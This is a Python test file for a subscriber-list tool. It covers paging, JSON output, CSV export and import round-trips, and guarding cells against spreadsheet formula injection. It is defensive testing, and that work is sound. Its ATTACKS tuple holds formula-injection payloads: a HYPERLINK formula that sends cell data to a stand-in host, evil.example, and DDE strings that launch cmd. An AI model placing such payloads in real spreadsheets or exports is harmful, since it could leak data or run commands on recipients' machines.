"""Reading the list out: paging, records, ``subscribers list --json`` and the CSV export.

The export is what an owner opens in a spreadsheet, so its cells are guarded
against formula injection (:mod:`pipeline.subscribers.csv_cells`), and what it
writes the import reads back unchanged.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine

from pipeline.store.models import SubscriberStatus
from pipeline.subscribers import (
    add_subscriber,
    export_csv,
    import_csv,
    iter_subscribers,
    remove_subscriber,
    to_json_dict,
)
from pipeline.subscribers.csv_cells import FORMULA_STARTS, guard_cell, unguard_cell
from tests.subscribers.lists import Sessions, migrated_database, selects_on_subscribers, write


def test_listing_pages_through_the_table_in_id_order(engine: Engine, sessions: Sessions) -> None:
    emails = [f"p{i}@example.com" for i in (5, 1, 4, 2, 3, 0, 6)]
    for email in emails:
        add_subscriber(sessions, email)
    remove_subscriber(sessions, "p4@example.com")
    seen = selects_on_subscribers(engine)
    assert [r.email for r in iter_subscribers(sessions, chunk_size=3)] == emails
    assert len(seen) == 3  # 3 + 3 + 1 rows, never the whole table at once
    assert all("LIMIT" in statement for statement in seen)
    active = iter_subscribers(sessions, status=SubscriberStatus.ACTIVE, chunk_size=3)
    assert [r.email for r in active] == [e for e in emails if e != "p4@example.com"]


def test_records_are_immutable(sessions: Sessions) -> None:
    record = add_subscriber(sessions, "ann@example.com", tags=["vip"])
    with pytest.raises(AttributeError):
        record.email = "x@example.com"  # type: ignore[misc]
    with pytest.raises(TypeError):
        record.fields["x"] = "y"  # type: ignore[index]


def test_json_shape_of_subscribers_list(tmp_path: Path, sessions: Sessions) -> None:
    import_csv(
        sessions, write(tmp_path, "email,first_name,tags,phone\nann@example.com,Ann,vip,1\n")
    )
    [record] = iter_subscribers(sessions)
    data = to_json_dict(record)
    assert data == {
        "email": "ann@example.com",
        "first_name": "Ann",
        "last_name": None,
        "status": "active",
        "tags": ["vip"],
        "fields": {"phone": "1"},
    }
    assert json.loads(json.dumps(data)) == data


def test_export_writes_a_header_and_one_row_each(tmp_path: Path, sessions: Sessions) -> None:
    text = "email,first_name,tags,phone\nann@example.com,Ann,vip;new,1\n"
    import_csv(sessions, write(tmp_path, text))
    import_csv(sessions, write(tmp_path, "email,clinic\nbo@example.com,North\n", "2.csv"))
    out = io.StringIO()
    assert export_csv(sessions, out) == 2
    assert out.getvalue().splitlines() == [
        "email,first_name,last_name,status,tags,phone,clinic",
        "ann@example.com,Ann,,active,vip;new,1,",
        "bo@example.com,,,active,,,North",
    ]


def test_export_round_trips_through_import(tmp_path: Path, sessions: Sessions) -> None:
    text = (
        "email,first_name,last_name,tags,phone,notes\n"
        'ann@example.com,Ann,"Lee, Jr.",vip;new,123,"says ""hi"""\n'
        "bo@example.com,Bo,,,,\n"
        'cy@example.com,Cy,Ng,vip,,"two\nlines"\n'
    )
    import_csv(sessions, write(tmp_path, text))
    remove_subscriber(sessions, "bo@example.com")
    exported = tmp_path / "export.csv"
    with exported.open("w", encoding="utf-8", newline="") as out:
        assert export_csv(sessions, out) == 3

    _, fresh = migrated_database(tmp_path / "fresh.db")
    report = import_csv(fresh, exported)
    assert (report.added, report.problems) == (3, ())
    original = [to_json_dict(r) for r in iter_subscribers(sessions)]
    assert [to_json_dict(r) for r in iter_subscribers(fresh)] == original
    # And importing the export into the database it came from changes nothing.
    again = import_csv(sessions, exported)
    assert (again.unchanged, again.kept_left, again.updated) == (2, 1, 0)


# -- spreadsheets: no cell runs as a formula ---------------------------------------------------

#: What people type into a sign-up form to attack whoever opens the list in a spreadsheet.
ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def test_export_writes_formula_like_cells_as_text(tmp_path: Path, sessions: Sessions) -> None:
    rows = [",".join(["email", "first_name", "last_name", "note"])]
    for n, attack in enumerate(ATTACKS):
        quoted = '"' + attack.replace('"', '""') + '"'
        rows.append(f"p{n}@example.com,{quoted},{quoted},{quoted}")
    import_csv(sessions, write(tmp_path, "\n".join(rows) + "\n"))
    out = io.StringIO()
    assert export_csv(sessions, out) == len(ATTACKS)
    exported = list(csv.reader(io.StringIO(out.getvalue())))
    cells = [cell for row in exported for cell in row]
    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS]
    for row, attack in zip(exported[1:], ATTACKS, strict=True):
        first_name, last_name, note = row[1], row[2], row[5]
        assert first_name == last_name == note == "'" + attack


def test_a_guarded_export_reads_back_as_it_was(tmp_path: Path, sessions: Sessions) -> None:
    # Every guarded column (names, tags, a field, the field's own header), and
    # a value that only looks guarded: each comes back exactly.
    text = "email,first_name,last_name,tags,=calc\nann@example.com,=Ann,'=Lee,@vip,-5\n"
    import_csv(sessions, write(tmp_path, text))
    [before] = [to_json_dict(r) for r in iter_subscribers(sessions)]
    assert before["first_name"] == "=Ann"
    assert before["last_name"] == "=Lee"  # as a spreadsheet user means it
    assert before["fields"] == {"=calc": "-5"}
    exported = tmp_path / "export.csv"
    with exported.open("w", encoding="utf-8", newline="") as out:
        export_csv(sessions, out)
    assert exported.read_text(encoding="utf-8").splitlines() == [
        "email,first_name,last_name,status,tags,'=calc",
        "ann@example.com,'=Ann,'=Lee,active,'@vip,'-5",
    ]
    _, fresh = migrated_database(tmp_path / "fresh.db")
    assert import_csv(fresh, exported).added == 1
    assert [to_json_dict(r) for r in iter_subscribers(fresh)] == [before]


@given(st.text())
def test_guarding_is_undone_exactly_and_never_leaves_a_formula(value: str) -> None:
    guarded = guard_cell(value)
    assert unguard_cell(guarded) == value
    assert guarded[:1] not in FORMULA_STARTS


@pytest.mark.parametrize(
    ("value", "guarded"),
    [
        ("Ann", "Ann"),
        ("", ""),
        ("'", "'"),
        ("'quoted'", "'quoted'"),
        ("=1+1", "'=1+1"),
        ("'=1+1", "''=1+1"),
        ("\t=1", "'\t=1"),
        ("Ann-Marie", "Ann-Marie"),
    ],
)
def test_which_cells_are_guarded(value: str, guarded: str) -> None:
    assert guard_cell(value) == guarded
